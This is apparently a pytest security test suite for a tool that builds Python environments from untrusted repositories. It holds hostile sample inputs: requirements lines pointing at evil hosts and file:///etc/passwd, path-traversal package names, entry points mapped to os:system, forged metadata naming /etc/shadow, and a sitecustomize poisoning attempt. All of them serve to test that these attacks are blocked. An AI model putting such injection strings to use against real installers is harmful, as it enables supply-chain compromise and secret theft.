"""A Python project's files are data to the environment builder, and its environment is
read-only to its tests.

Threats: a repository's requirements or installer configuration pointing the host's installer at
another index or a local path; a project name, version or entry point that would write outside
the environment or smuggle lines into its metadata; the server's secrets reaching the installer;
test code poisoning a cached environment that later runs (other traces) reuse.
"""

from __future__ import annotations

import shutil
import urllib.request
from pathlib import Path

import pytest

from debugtrace import Settings
from debugtrace.environments import python as pyenv
from debugtrace.environments.build import build_environment
from debugtrace.environments.interpreters import own_interpreter
from debugtrace.environments.pydeps import read_project_meta
from debugtrace.sandbox import ResourceLimits
from debugtrace.sandbox.local import LocalSandbox
from debugtrace.sandbox.projects import detect_project
from support.services import require


def write(root: Path, files: dict[str, str]) -> Path:
    for name, text in files.items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text(text)
    return root


def capture_installs(monkeypatch: pytest.MonkeyPatch) -> list[tuple[list[str], str]]:
    """Replace the installer call: record each argv and the requirements file it names."""
    calls: list[tuple[list[str], str]] = []

    def fake_run(argv: list[str], what: str, timeout_s: float, cwd: str) -> None:
        req = next((a for a in argv if a.endswith("requirements.txt")), None)
        calls.append((argv, Path(req).read_text() if req else ""))
        if "venv" in argv:  # make the folder the rest of the build expects
            site = Path(argv[-1]) / "lib" / f"python{own_interpreter().short}" / "site-packages"
            site.mkdir(parents=True)

    monkeypatch.setattr(pyenv, "_run", fake_run)
    return calls


def test_pip_options_urls_and_paths_in_requirements_never_reach_the_installer(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    root = write(
        tmp_path / "p",
        {
            "requirements.txt": (
                "--index-url http://127.0.0.1:9/simple\n--extra-index-url http://evil/\n"
                "--find-links /etc\n-e git+https://evil/x#egg=x\n"
                "local @ file:///etc/passwd\n./vendor/pkg\nsix==1.16.0 --hash=sha256:abc\n"
                "--trusted-host evil\n${HOME}/x\n"
            ),
            "test_p.py": "",
        },
    )
    calls = capture_installs(monkeypatch)
    spec = detect_project(root)
    assert spec is not None
    build_environment(root, spec, Settings(data_dir=tmp_path / "data", load_plugins=""))
    installs = [(argv, reqs) for argv, reqs in calls if "install" in argv]
    (argv, reqs) = installs[0]
    assert reqs == "six==1.16.0\npytest\n"
    assert "--only-binary" in " ".join(argv)  # nothing is built (no setup.py runs) on the host
    assert not any(a.startswith(("--index", "--extra-index", "--find-links")) for a in argv)


def test_the_installer_sees_none_of_the_servers_secrets(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("OPENAI_API_KEY", "sk-secret")
    monkeypatch.setenv("DEBUGTRACE_DATABASE_URL", "postgresql://u:pw@db/x")
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "x")
    monkeypatch.setenv("UV_INDEX_URL", "https://mirror.example/simple")
    env = pyenv._env("/tmp")
    assert not {"OPENAI_API_KEY", "DEBUGTRACE_DATABASE_URL", "AWS_SECRET_ACCESS_KEY"} & set(env)
    assert env["UV_INDEX_URL"] == "https://mirror.example/simple"  # the host's own index
    assert env["UV_PYTHON_DOWNLOADS"] == "never"


@pytest.mark.parametrize(
    ("pyproject", "dist_info"),
    [
        ('name = "../../../../tmp/evil"\nversion = "1"', None),
        ('name = "ok"\nversion = "1/../../../../evil"', "ok-0+unknown.dist-info"),
        ('name = "ok\\nVersion: 666"\nversion = "1"', None),
    ],
)
def test_a_project_name_or_version_cannot_leave_or_forge_the_dist_info(
    tmp_path: Path, pyproject: str, dist_info: str | None
) -> None:
    root = write(tmp_path / "p", {"pyproject.toml": f"[project]\n{pyproject}\n"})
    meta = read_project_meta(root)
    venv = tmp_path / "venv"
    site = pyenv.site_packages(venv, own_interpreter())
    site.mkdir(parents=True)
    pyenv._put_project(venv, own_interpreter(), meta)
    made = [p.relative_to(tmp_path).as_posix() for p in tmp_path.rglob("*.dist-info")]
    expected = [] if dist_info is None else [(site / dist_info).relative_to(tmp_path).as_posix()]
    assert made == expected


def test_entry_points_cannot_smuggle_sections_or_lines(tmp_path: Path) -> None:
    root = write(
        tmp_path,
        {
            "pyproject.toml": (
                '[project]\nname = "p"\n[project.entry-points.pytest11]\n'
                'good = "p.plugin"\n'
                '"bad\\n[console_scripts]\\nevil" = "os:system"\n'
                'worse = "os:system\\n[x]"\n'
                '[project.entry-points."pytest11]\\n[evil"]\nx = "p.x"\n'
            )
        },
    )
    assert read_project_meta(root).entry_points == {"pytest11": {"good": "p.plugin"}}


def test_the_repositorys_installer_configuration_is_never_read(tmp_path: Path) -> None:
    try:
        urllib.request.urlopen("https://pypi.org/simple/iniconfig/", timeout=10).close()
    except OSError as exc:
        require("PyPI", f"pypi.org does not answer: {exc}")
    dead = "http://127.0.0.1:9/simple"
    root = write(
        tmp_path / "p",
        {
            "pyproject.toml": f'[project]\nname = "p"\n[tool.uv]\nindex-url = "{dead}"\n',
            "uv.toml": f'index-url = "{dead}"\n',
            "pip.conf": f"[global]\nindex-url = {dead}\n",
            "requirements.txt": "iniconfig\n",
        },
    )
    spec = detect_project(root)
    assert spec is not None
    env = build_environment(root, spec, Settings(data_dir=tmp_path / "data", load_plugins=""))
    assert env is not None and any(p.startswith("iniconfig==") for p in env.pins)


def test_test_code_cannot_change_the_cached_environment(tmp_path: Path) -> None:
    if not shutil.which("bwrap"):
        require("bubblewrap", "bwrap is not installed (apt-get install bubblewrap)")
    try:
        urllib.request.urlopen("https://pypi.org/simple/pytest/", timeout=10).close()
    except OSError as exc:
        require("PyPI", f"pypi.org does not answer: {exc}")
    root = write(tmp_path / "p", {"test_p.py": "def test(): pass\n"})
    spec = detect_project(root)
    assert spec is not None
    settings = Settings(data_dir=tmp_path / "data", load_plugins="")
    env = build_environment(root, spec, settings)
    assert env is not None and env.python
    from dataclasses import replace

    sandbox = LocalSandbox(settings)
    handle = sandbox.prepare(root, replace(spec, environment=env))
    try:
        site = next(env.path.glob("lib/python*/site-packages"))
        poison = f"open({str(site / 'sitecustomize.py')!r}, 'w').write('import os')"
        res = sandbox.run(handle, [env.python, "-c", poison], ResourceLimits(timeout_s=60))
    finally:
        sandbox.close(handle)
    assert res.exit_code != 0 and "Read-only file system" in res.output
    assert not (site / "sitecustomize.py").exists()


def test_forged_dist_infos_a_wheel_installs_never_become_pins(tmp_path: Path) -> None:
    # a wheel may install extra .dist-info folders (through its .data/purelib) saying anything;
    # pins become lines of another installer's requirements file (the docker image's pip)
    venv = tmp_path / "venv"
    site = pyenv.site_packages(venv, own_interpreter())
    forged = {
        "good-1.0": "Name: good\nVersion: 1.0\n",
        "zz_forged-1.0": "Name: -r /etc/shadow #\nVersion: 1.0\n",
        "url-1.0": "Name: x @ file:///etc\nVersion: 1\n",
        "badversion-1.0": "Name: ok\nVersion: 1.0 --index-url=https://evil/\n",
    }
    for folder, meta in forged.items():
        (site / f"{folder}.dist-info").mkdir(parents=True)
        (site / f"{folder}.dist-info" / "METADATA").write_text(meta)
    assert pyenv._freeze(venv, own_interpreter()) == ["good==1.0"]


def test_a_record_cannot_remove_folders_outside_the_environment(tmp_path: Path) -> None:
    venv = tmp_path / "venv"
    site = pyenv.site_packages(venv, own_interpreter())
    victim = tmp_path / "victim-empty-dir"
    victim.mkdir()
    info = site / "proj-1.0.dist-info"
    info.mkdir(parents=True)
    (site / "proj").mkdir()
    (site / "proj" / "__init__.py").write_text("")
    escape = "../" * 8 + str(victim).lstrip("/") + "/x"
    (info / "RECORD").write_text(f"proj/__init__.py,,\n{escape},,\n")
    pyenv._remove_distribution(site, info)
    assert victim.is_dir()  # the RECORD named a file in it: the folder is not ours to remove
    assert not (site / "proj").exists() and not info.exists()
